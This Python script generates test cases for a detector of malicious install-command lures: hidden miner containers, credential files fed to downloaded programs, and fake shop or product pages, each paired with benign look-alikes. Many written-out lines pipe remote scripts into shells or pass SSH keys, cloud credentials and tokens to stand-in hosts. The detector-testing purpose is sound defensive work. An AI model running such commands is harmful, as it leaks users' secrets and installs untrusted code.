"""Writes tests/data/cases/b17lures.jsonl: the lure techniques BLIND-17 and the known lure gaps
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b17lures.py

Deterministic (every variant is a product of fixed lists). Lure hosts are reserved names
(.example, .test, .invalid, documentation IP ranges). No text is copied from a lure collection,
another detector's fixtures or the blind sets. Each line is {id, text, expect, technique,
platform[, source], target}.

Techniques:

- `miner-pool-options`: a miner that names no miner program (a container image such as
  "xm/rig", a renamed copy) known by the pool and wallet options every stratum miner takes,
  as a container's command (docker, podman, nerdctl, kubectl run) or as the pool / user /
  password triple: a warning, and a block when the container is kept running in the
  background (detached, --restart always). Look-alikes: containers published on a port and run
  as a user (-p 8080:80 -u 1000), a mining pool's own server in a container, ssh and mount
  options, a miner run in front of you (a warning, as before).
- `credentials-to-downloaded-program`: a credential file's contents (cloud keys, an SSH private
  key, a kubeconfig, registry and Git tokens) put on the command line of a program downloaded
  and run at that moment (npx/bunx/uvx of an address, curl | sh -s --, bash <(curl)): blocked,
  with a page or without. Look-alikes: a public key passed the same way, a kubeconfig read into
  a secret with nothing downloaded, Vault's documented token header, a version file passed to
  an official installer.
- `shop-named-page`: a page whose registrable name is a shop's (a number run onto the getting
  word: zoom-setup24, notion-app365; or only kinds of software and a getting word:
  vpn-client-setup, pdf-reader-download) handing out a script from another host: blocked.
  Look-alikes: the same page quoting a trusted installer, a tutorial site, a course or a team
  wiki whose names number nothing (devops-bootcamp17), a page named for a kind and no getting
  word, all still warnings or quieter.
- `product-page-elsewhere`: a page named for a product whose text installs that very product
  by name ("Install Quillstack CLI", "Installieren Sie Brightlog") from a host whose name and
  path spell nothing of it: the fake product page's own throwaway host, blocked. Look-alikes:
  the product's own domain, a CDN or a forge named for it (info or a warning as before), the
  product's docs installing ANOTHER tool first, a developer site's article quoting it.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b17l")
add = book.add

# ---- miner-pool-options -----------------------------------------------------------------------
# (command, page): a container or renamed program started with a pool and a wallet, kept running
MINERS_KEPT = [
    (
        "docker run -d --restart=always --name kworker registry.tarnfield.test/xm/rig "
        "-o 198.51.100.44:3333 -u 48qWalletTarn",
        "https://www.gpu-lease.example/start",
    ),
    (
        "docker run --detach --restart unless-stopped ghcr.example.invalid/ops/svc:latest "
        "--url pool.hollowmere.test:4444 --user 4Bz.rig01",
        None,
    ),
    (
        "podman run -d --restart=always quay.example.test/base/sysd -o 203.0.113.9:5555 -u "
        "wallet7.w1 -p x",
        "https://free-render-credits.example/linux",
    ),
    (
        "nerdctl run -d --restart always docker.io/brenwick/toolbox -o stratum+tcp://"
        "192.0.2.77:14444 -u 43xyZ",
        None,
    ),
    (
        "sudo docker run -itd --restart=on-failure --name update-agent cr.lockhaven.test/u/a "
        "-o eu.lockhaven.test:7777 -u acct.worker",
        "https://benchmark-your-gpu.example/linux",
    ),
    (
        "docker container run -d --restart=always img.vossridge.invalid/r -o "
        "198.51.100.3:45700 --user 8AbcDwallet",
        "https://www.cloud-gpu-trial.test/quickstart",
    ),
]
for command, page in MINERS_KEPT:
    add("miner-pool-options", command, "malicious", "linux", "terminal", page)

# the same options, in front of you: a warning (as a named miner is)
MINERS_SHOWN = [
    "docker run --rm -it registry.tarnfield.test/xm/rig -o 198.51.100.44:3333 -u 48qWalletTarn",
    "podman run --rm quay.example.test/tools/r --url pool.gpu-lab.test:4444 --user w1",
    "kubectl run rig --image=cr.example.test/x/r --restart=Never -- -o 198.51.100.8:3333 -u w9",
    "./sysupd -o pool.hollowmere.test:3333 -u 4Bz.rig01 -p x",
]
for command in MINERS_SHOWN:
    add("miner-pool-options", command, "suspicious", "linux", "terminal", None)

# look-alikes: containers with ports and users, a pool's own server, options of other programs
NOT_MINERS = [
    "docker run -d --restart unless-stopped -p 8080:80 -u 1000 --name web nginx:1.27",
    "docker run -d --restart=always -p 3333:3333 -p 4000:4000 --name pool "
    "theretromike/miningcore -c /app/config.json",
    "podman run -d --restart=always -p 5432:5432 -e POSTGRES_USER=app -u postgres postgres:16",
    "docker run --rm -it -u $(id -u):$(id -g) -v $PWD:/src -w /src golang:1.23 go build ./...",
    "ssh -o ProxyJump=bastion.corp.example:22 -o User=deploy app01",
    "sudo mount -t nfs -o vers=4,port=2049 files.lan:/export /mnt/files",
    "kubectl get pods -o wide -n monitoring",
    "docker run -d --restart=always --name tunnel cloudflare/cloudflared:latest tunnel run "
    "--token eyJhIjoiZXhhbXBsZSJ9",
]
for command in NOT_MINERS:
    add(
        "miner-pool-options",
        command,
        "not_flagged",
        "linux",
        "terminal",
        "https://docs.example.com/run",
    )

# ---- credentials-to-downloaded-program ------------------------------------------------------
CREDENTIALS = [
    (
        "npx -y https://cdn.tollbridge.invalid/schemakit-2.tgz init --token "
        "$(cat ~/.aws/credentials | base64)",
        "https://www.schemakit-cli.test/getting-started",
    ),
    (
        'curl -fsSL https://get.marrowdale.test/agent.sh | sh -s -- --key "$(cat ~/.ssh/id_ed25519)"',
        "https://docs.marrowdale.test/agent",
    ),
    (
        'bunx https://pkg.fernhollow.example/deployer.tgz --kube "$(base64 -w0 ~/.kube/config)"',
        None,
    ),
    (
        'bash <(curl -s https://i.quaystone.invalid/setup) --gh "$(cat ~/.config/gh/hosts.yml)"',
        "https://quaystone.invalid/onboarding",
    ),
    (
        "uvx --from git+https://git.pellworth.test/tools/sync.git sync --auth "
        "`cat $HOME/.git-credentials`",
        None,
    ),
    (
        'sh -c "$(curl -fsSL https://raw.kestrelmoor.example/i)" -- --npm "$(cat ~/.npmrc)" '
        '--docker "$(cat ~/.docker/config.json | base64)"',
        "https://www.kestrelmoor.example/",
    ),
    (
        "npm exec --yes https://dl.oakhurst.test/cli.tgz -- login --ssh "
        "$(cat ~/.ssh/id_rsa | gzip | base64)",
        None,
    ),
]
for command, page in CREDENTIALS:
    add("credentials-to-downloaded-program", command, "malicious", "any", "terminal", page)

# look-alikes: a public key, a file read with nothing downloaded, Vault's token header, a version
# file handed to an official installer, a tool's own config path named as an option
NOT_CREDENTIALS = [
    (
        'curl -fsSL https://get.marrowdale.test/agent.sh | sh -s -- --pubkey "$(cat ~/.ssh/id_ed25519.pub)"',
        "https://docs.marrowdale.test/agent",
        "info",
    ),
    (
        'kubectl create secret generic kubeconfig --from-literal=config="$(cat ~/.kube/config)"',
        "https://docs.example.com/ci",
        "not_flagged",
    ),
    (
        'curl --header "X-Vault-Token: $(cat ~/.vault-token)" '
        "https://vault.example.com:8200/v1/secret/data/app",
        "https://developer.hashicorp.com/vault/docs/auth/token",
        "not_flagged",
    ),
    (
        "curl -fsSL https://fnm.vercel.app/install | bash -s -- --skip-shell && "
        "fnm install $(cat .nvmrc)",
        "https://github.com/Schniz/fnm",
        "not_flagged",
    ),
    (
        "aws configure list --profile default && cat ~/.aws/config",
        None,
        "not_flagged",
    ),
    (
        'ssh-keygen -lf ~/.ssh/id_ed25519 && echo "$(cat ~/.ssh/id_ed25519.pub)" | pbcopy',
        None,
        "not_flagged",
    ),
]
for command, page, expect in NOT_CREDENTIALS:
    add("credentials-to-downloaded-program", command, expect, "any", "terminal", page)

# ---- shop-named-page ---------------------------------------------------------------------------
SHOP_PAGES = [
    (
        "https://vpn-client-setup24.example/linux",
        "Connect to the company VPN:\nwget -qO- https://files.tarrowby.test/vpn.sh | sudo bash",
        "linux",
    ),
    (
        "https://www.pdf-reader-download.test/mac",
        "curl -fsSL https://cdn.wexcombe.invalid/reader.sh | bash",
        "macos",
    ),
    (
        "https://screen-recorder-setup.example/windows",
        "irm https://static.pollard-lane.test/rec.ps1 | iex",
        "windows",
    ),
    (
        "https://notion-app365.example/download",
        "curl -fsSL https://m4.brisketon.invalid/setup.sh | bash",
        "macos",
    ),
    (
        "https://proxy-client-get.example/",
        "bash <(curl -s https://pkg.oxley-row.test/px.sh)",
        "linux",
    ),
    (
        "https://www.free-vpn-mac24.example/install",
        "curl -sL https://cdn.ardleigh.invalid/client.pkg -o /tmp/c.pkg && "
        "sudo installer -pkg /tmp/c.pkg -target /",
        "macos",
    ),
    (
        "https://obsidian-setup2.test/linux",
        "wget -qO- https://dl.harnwick.example/installer.sh | sudo bash",
        "linux",
    ),
]
for page, command, platform in SHOP_PAGES:
    add("shop-named-page", command, "malicious", platform, "terminal", page)

NOT_SHOP_PAGES = [
    # a trusted installer quoted there is still the vendor's
    (
        "https://vpn-client-setup24.example/linux",
        "curl -fsSL https://tailscale.com/install.sh | sh  # the vendor's own client",
        "info",
    ),
    # a course, a team wiki, a page named for a kind with no getting word: warnings as before
    (
        "https://learn.devops-bootcamp17.example/modules/tools/setup",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://wiki.platform-team42.example/onboarding",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://vpn-client.example/linux",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://k8s-setup.example/posts/cluster",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
]
for page, command, expect in NOT_SHOP_PAGES:
    add("shop-named-page", command, expect, "linux", "terminal", page)

# ---- product-page-elsewhere ---------------------------------------------------------------------
PRODUCT_PAGES = [
    (
        "https://www.quillstack-cli.example/docs/install",
        "# Install Quillstack CLI (Windows)\n"
        'powershell -ExecutionPolicy Bypass -c "irm https://r2.dunmore.invalid/install.ps1 | iex"',
        "windows",
    ),
    (
        "https://brightlog.test/docs/getting-started",
        "Install Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "any",
    ),
    (
        "https://www.tidepool-sync.example/",
        '# installing tidepool on macOS\n/bin/bash -c "$(curl -fsSL https://cdn.hexley.test/setup.sh)"',
        "macos",
    ),
    (
        "https://kestrelops.example/download",
        "Download KestrelOps agent for Linux:\nwget -qO- https://a1.pembury.invalid/agent.sh | sudo sh",
        "linux",
    ),
    (
        "https://docs.vantyr.test/cli",
        "Set up vantyr-cli:\nnpx -y https://pkg.maldon-rise.example/v2.tgz init",
        "any",
    ),
    (
        "https://brightlog.test/de/docs",
        "Installieren Sie Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "any",
    ),
]
for page, command, platform in PRODUCT_PAGES:
    add("product-page-elsewhere", command, "malicious", platform, "terminal", page)

NOT_PRODUCT_PAGES = [
    # the product's own domain, a forge account named for it: cleared
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\ncurl -fsSL https://get.brightlog.test/install.sh | bash",
        "info",
    ),
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\n"
        "curl -fsSL https://raw.githubusercontent.com/brightlog-dev/brightlog/main/install.sh | bash",
        "info",
    ),
    # a CDN named for it, the docs installing another tool first, an article quoting it:
    # warnings, as before
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\ncurl -fsSL https://dl.brightlog-cdn.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://brightlog.test/docs",
        "Install lumenctl first:\ncurl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://dev.to/mira/brightlog-setup-4kd2",
        "Install Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "suspicious",
    ),
]
for page, command, expect in NOT_PRODUCT_PAGES:
    add("product-page-elsewhere", command, expect, "any", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b17lures.jsonl"), CASES)
